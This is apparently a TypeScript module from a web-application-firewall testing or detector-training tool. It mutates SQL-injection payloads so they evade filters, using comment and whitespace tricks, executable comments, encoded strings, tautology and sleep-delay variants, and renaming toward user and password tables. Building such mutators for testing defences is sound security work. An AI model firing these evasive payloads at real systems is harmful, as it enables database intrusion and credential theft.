import { chance, int, pick } from '../random.js'
import type { Random } from '../random.js'
import { ordinary, renumber } from './common.js'
import {
  fullwidthSigns,
  mathLetters,
  percentSigns,
  percentSome,
  percentU,
  unicodeEscapes,
} from './encodings.js'
import { eachMatch, mixedCase, mutators, oneMatch, outside } from './step.js'
import type { Step } from './step.js'
import { letters, word, words } from './words.js'

const KEYWORD =
  /\b(?:select|union|all|from|where|and|or|order|group|by|having|insert|into|update|set|delete|drop|table|like|between|case|when|then|else|end|exec|waitfor|delay|sleep|benchmark|null|limit|offset|concat|cast|convert|char|ascii|substring|substr|if|not|exists|distinct|database|version|user|procedure|declare|rlike|regexp)\b/gi

/** A condition that can be followed by another. */
const CONDITION = /\b\d+\s?(?:=|<|>|<>|!=|like)\s?\d+\b(?!\s?[-+*/.])/gi
/** What ends a statement and leaves the rest of the application's unread. */
const END = /(?:--[\s+-]*|#\s*|\/\*)$/

const keywordCase: Step = (text, random) => {
  const style = int(random, 0, 2)
  return text.replace(KEYWORD, (word) =>
    style === 0 ? word.toUpperCase() : style === 1 ? word.toLowerCase() : mixedCase(word, random),
  )
}

const comment = (random: Random): string =>
  pick(random, ['/**/', '/**/', `/*${word(random)}*/`, `/*${words(random, 1, 5)}*/`, '/*!*/', '/**//**/'])

/** Blanks of SQL as several databases read them, and comments, which are blanks. */
const blank = (random: Random): string =>
  pick(random, [
    '\t',
    '\n',
    '\r\n',
    '\v',
    '\f',
    '  ',
    '\u00a0',
    ' \n ',
    '\t\t',
    `--\n`,
    `-- ${word(random)}\n`,
    `#${letters(random, 1, 8)}\n`,
  ])

/** Between two tokens, none of which is inside a short quoted text. */
const GAP = /(?<=[\w'")*]) +(?=[\w'"(@*])/g
/** Comments; a change within could end one. */
const COMMENT = /\/\*[\s\S]*?(?:\*\/|$)|(?:--(?=[\s-])|#)[^\n]*/g

const otherBlanks: Step = (text, random) => {
  const space = blank(random)
  return outside(text, COMMENT, (part) =>
    eachMatch(part, GAP, random, 0.9, () => (chance(random, 0.7) ? space : blank(random))),
  )
}
const commentBlanks: Step = (text, random) =>
  outside(text, COMMENT, (part) => eachMatch(part, GAP, random, 0.9, () => comment(random)))

/** A sign that joins two operands, one of which is quoted: how expressions without a keyword leave a string. */
const JOINT =
  /(?<=['"`]) *(?:\|\||&&|[-+*/%^|&]) *(?=['"`(\d])|(?<=[\d)]) *(?:\|\||&&|[-+*/%^|&]) *(?=['"`])/g

/** Around signs a blank may stand or not. */
const signBlanks: Step = (text, random) =>
  outside(text, COMMENT, (part) =>
    eachMatch(part, SIGN, random, 0.6, (sign) => {
      const bare = sign.trim()
      return pick(random, [bare, ` ${bare} `, `${bare} `, `\n${bare}`, `${bare}${comment(random)}`])
    }),
  )

const SIGN = new RegExp(` *(?:(?<![<>!:=])=(?![=>])|,|<>|\\|\\|) *|${JOINT.source}`, 'g')

/** What stands in comments means nothing. */
const commentText: Step = (text, random) =>
  text.replace(/\/\*(?!!)[^*]{0,200}\*\//g, () => `/*${words(random, 0, 6)}*/`)

const ending: Step = (text, random) =>
  END.test(text)
    ? text.replace(END, () =>
        pick(random, ['-- ', '-- -', '#', `-- ${letters(random, 1, 6)}`, ';-- ', '/*', ';#', '--\t']),
      )
    : text

/** Ordinary words behind the comment that ends the payload. */
const endingWords: Step = (text, random) =>
  END.test(text)
    ? text.replace(END, () => `${pick(random, ['-- ', '#', '-- - '])}${words(random, 1, 8)}`)
    : text

const executableComment: Step = (text, random) =>
  outside(text, COMMENT, (part) =>
    eachMatch(
      part,
      /\b(?:union|select|from|where|and|or)\b/gi,
      random,
      0.4,
      (word) => `/*!${pick(random, ['', '50000', '12345 ', '00000'])}${word}*/`,
    ),
  )

const quotes: Step = (text) => {
  if (/"/.test(text) || !/^[^']{0,40}'/.test(text)) return text
  return text.replaceAll("'", '"')
}

/** A literal that stands whole within the payload. */
const LITERAL = /(?<=[=(,]\s?)'([a-z0-9_]{2,20})'(?!')/gi

const builtString: Step = (text, random) =>
  eachMatch(text, LITERAL, random, 0.8, (literal) => {
    const value = literal.slice(1, -1)
    const cut = int(random, 1, value.length - 1)
    const [left, right] = [value.slice(0, cut), value.slice(cut)]
    const codes = [...value].map((char) => char.charCodeAt(0))
    return pick(random, [
      `concat('${left}','${right}')`,
      `'${left}'||'${right}'`,
      `'${left}'+'${right}'`,
      `'${left}' '${right}'`,
      `0x${Buffer.from(value).toString('hex')}`,
      `char(${codes.join(',')})`,
      codes.map((code) => `chr(${code})`).join('||'),
      `N'${value}'`,
      `x'${Buffer.from(value).toString('hex')}'`,
      `reverse('${[...value].reverse().join('')}')`,
      `unhex('${Buffer.from(value).toString('hex')}')`,
    ])
  })

const TABLES = [
  'users',
  'user',
  'members',
  'accounts',
  'admin',
  'customers',
  'orders',
  'employees',
  'staff',
  'login',
]
const COLUMNS = ['id', 'name', 'username', 'password', 'email', 'passwd', 'login', 'role', 'token', 'secret']

const names: Step = (text, random) => {
  const table = chance(random, 0.5) ? pick(random, TABLES) : letters(random, 4, 9)
  return text
    .replace(/(\bfrom\s+)(?:users?|members|admin|accounts|tbl\w+)\b/gi, (_all, from: string) => from + table)
    .replace(/\b(?:username|password|passwd|login)\b/gi, () => pick(random, COLUMNS))
}

const quotedNames: Step = (text, random) =>
  text.replace(/\b(from|join|into)\s+([a-z_]{2,30})\b(?!\s*[.(])/gi, (_all, word: string, name: string) => {
    const sign = pick(random, ['`', '`', '"'])
    return `${word}${pick(random, ['', ' '])}${sign}${name}${sign}`
  })

const closing: Step = (text, random) =>
  text.replace(
    /^(\w{0,12})(['"])(?=\s)/,
    (_all, value: string, quote: string) => `${value}${quote}${')'.repeat(int(random, 1, 3))}`,
  )

const parentheses: Step = (text, random) =>
  text.replace(/\b(\d+)\s*=\s*(\d+)\b/g, (all: string) =>
    pick(random, [`(${all})`, `((${all}))`, `(${all})is true`]),
  )

/** Another condition that always holds. */
function truth(random: Random): string {
  const n = int(random, 2, 9999)
  const text = letters(random, 1, 5)
  return pick(random, [
    `${n}=${n}`,
    `${n}>${n - 1}`,
    `${n} between 1 and ${n + 7}`,
    `${n} in (${n})`,
    `'${text}'='${text}'`,
    `'${text}' like '${text}'`,
    `not ${n}=${n + 1}`,
    `${n} is not null`,
    `${n}<>${n + int(random, 1, 9)}`,
    `${n}!=${n + 1}`,
    `${n}-1=${n - 1}`,
    `pi()>3`,
    `length('${text}')=${text.length}`,
    `(select ${n})=${n}`,
    `'${text}'<'${text}z'`,
    `true`,
    `exists(select ${n})`,
    `coalesce(null,${n})=${n}`,
    `'${text}' in ('${text}','${letters(random, 2, 4)}')`,
    `ascii('a')=97`,
  ])
}

/** Equal numbers give way to something else that is true. */
const tautology: Step = (text, random) =>
  oneMatch(text, /\b(\d{1,6})\s?=\s?\1\b(?!\s?[-+*/.])/g, random, () => truth(random))

/** A further condition which changes nothing (WAF-A-MoLE's logical invariants). */
const invariant: Step = (text, random) =>
  oneMatch(text, CONDITION, random, ([all]) => {
    const [other, never] = [truth(random), `${int(random, 1, 99)}=${int(random, 100, 999)}`]
    return pick(random, [
      `${all} and ${other}`,
      `${all} or ${never}`,
      `${all} && ${other}`,
      `(${all} and ${other})`,
    ])
  })

const operators: Step = (text, random) =>
  text
    .replace(/(?<=['")\d] )or(?= )/gi, (or) => pick(random, [or, '||', 'xor', 'OR NOT FALSE OR']))
    .replace(/(?<=['")\d] )and(?= )/gi, (and) => pick(random, [and, '&&', '&&']))
    .replace(/(?<=\d)\s?=\s?(?=\d)/g, () => pick(random, ['=', ' like ', '<=>', ' rlike ']))

/** Other signs between the same operands: what they make of them is not what the injection is for. */
const joints: Step = (text, random) =>
  outside(text, COMMENT, (part) =>
    eachMatch(part, JOINT, random, 0.8, () =>
      pick(random, ['-', '+', '*', '/', '%', '^', '|', '&', '||', '&&', '<>', '!=', '<=>', ' div ', ' xor ']),
    ),
  )

/** Other operands behind a quote and a sign. */
const operands: Step = (text, random) =>
  outside(text, COMMENT, (part) =>
    eachMatch(part, OPERAND, random, 0.8, (digits) =>
      pick(random, [
        `(${digits})`,
        `${digits}.0`,
        `${digits}e0`,
        `.${digits}`,
        `0x${Number(digits).toString(16)}`,
        `(select ${digits})`,
        `(${digits}=${digits})`,
        `@${letters(random, 1, 4)}`,
        `~${digits}`,
        `!${digits}`,
        'pi()',
        'true',
        'null',
      ]),
    ),
  )
const OPERAND = /(?<=['"`] *(?:\|\||&&|<>|!=|[-+*/%^|&=<>]) *)\d{1,5}(?= *(?:[-+*/%^|&=<>#)]|$))/g

/** Other ways to write a number. */
const numbers: Step = (text, random) =>
  eachMatch(text, /(?<=[=,(]|\b(?:or|and|select) )\d{1,5}(?=[\s,)=]|$)/gi, random, 0.5, (digits) => {
    const n = Number(digits)
    return pick(random, [
      `0x${n.toString(16)}`,
      `${n}.0`,
      `${n}e0`,
      `(${n})`,
      `${n + 3}-3`,
      `(select ${n})`,
      `+${n}`,
      `--${n}`,
      `~~${n}`,
      `${n}*1`,
    ])
  })

const FUNCTIONS: readonly (readonly [RegExp, readonly string[]])[] = [
  [/\b(?:version\(\)|@@version)/gi, ['version()', '@@version', '@@global.version', 'sqlite_version()']],
  [/\b(?:database\(\)|schema\(\))/gi, ['database()', 'schema()', 'db_name()', 'current_database()']],
  [/\b(?:user\(\)|current_user\(\))/gi, ['user()', 'current_user()', 'session_user()', 'system_user()', 'current_user']],
  [/\b(?:substring|substr|mid)(?=\()/gi, ['substring', 'substr', 'mid']],
  [/\b(?:ascii|ord)(?=\()/gi, ['ascii', 'ord', 'unicode']],
  [/\bgroup_concat(?=\()/gi, ['group_concat', 'json_arrayagg', 'array_agg']],
  [/\bconcat(?=\()/gi, ['concat', 'concat_ws']],
  [/\bunion select\b/gi, ['union all select', 'union distinct select', 'union  select', 'UNION(SELECT']],
  [/\bunion all select\b/gi, ['union select', 'union distinct select']],
  [/\binformation_schema\.tables\b/gi, ['information_schema . tables', '`information_schema`.`tables`', 'information_schema.columns', 'sys.schema_table_statistics', 'mysql.innodb_table_stats']],
  [/\b(?:char|chr)(?=\()/gi, ['char', 'chr', 'nchar']],
  [/\bwaitfor delay\b/gi, ['waitfor delay', 'waitfor time']],
  [/\b(?:length|char_length|len)(?=\()/gi, ['length', 'char_length', 'octet_length', 'len']],
] // prettier-ignore

const functions: Step = (text, random) => {
  let changed = text
  for (const [pattern, others] of FUNCTIONS)
    changed = changed.replace(pattern, (name: string) => {
      const other = pick(random, others)
      // An opening bracket without its other half would break the statement.
      return other.endsWith('(SELECT') ? name : other
    })
  return changed
}

/** Other ways to wait, with other times. */
const delays: Step = (text, random) =>
  text
    .replace(/(?<!\bfrom\s*)\b(?:pg_)?sleep\(\s*\d+\s*\)/gi, () => {
      const seconds = int(random, 1, 30)
      return pick(random, [
        `sleep(${seconds})`,
        `pg_sleep(${seconds})`,
        `SLEEP( ${seconds} )`,
        `benchmark(${int(random, 1, 90)}000000,md5(${int(random, 1, 9)}))`,
        `(select sleep(${seconds}))`,
        `sleep(${seconds}-0)`,
        `if(1,sleep(${seconds}),0)`,
        `elt(1,sleep(${seconds}))`,
        `dbms_pipe.receive_message('a',${seconds})`,
      ])
    })
    .replace(/\b(order|group) by \d+/gi, (_all, word: string) => `${word} by ${int(random, 1, 60)}`)

/** A payload that closes the value before it, behind any value. */
const afterValue: Step = (text, random) => (/^['"`)]/.test(text) ? `${ordinary(random)}${text}` : text)

/** A longer text before a payload that closes it. */
const afterWords: Step = (text, random) => (/^['"`)]/.test(text) ? `${words(random, 8, 60)}${text}` : text)

const beforeComment: Step = (text, random) =>
  END.test(text) ? `${text.replace(END, '')}/*${words(random, 8, 50)}*/${pick(random, ['#', '-- '])}` : text

const longEnding: Step = (text, random) =>
  END.test(text) ? text.replace(END, () => `${pick(random, ['-- ', '#'])}${words(random, 10, 70)}`) : text

export const SQLI = mutators({
  case: { keywords: keywordCase },
  comments: { blanks: commentBlanks, text: commentText, ending, endingWords, executable: executableComment },
  spaces: { blanks: otherBlanks, signs: signBlanks },
  encodings: { percentSigns, percentSome, percentU, unicodeEscapes },
  strings: { quotes, built: builtString, closing },
  alternatives: {
    names,
    quotedNames,
    parentheses,
    tautology,
    invariant,
    operators,
    joints,
    operands,
    numbers,
    functions,
    delays,
    renumber,
  },
  'look-alikes': { fullwidthSigns, mathLetters },
  surroundings: { afterValue },
  padding: { afterWords, beforeComment, longEnding },
})
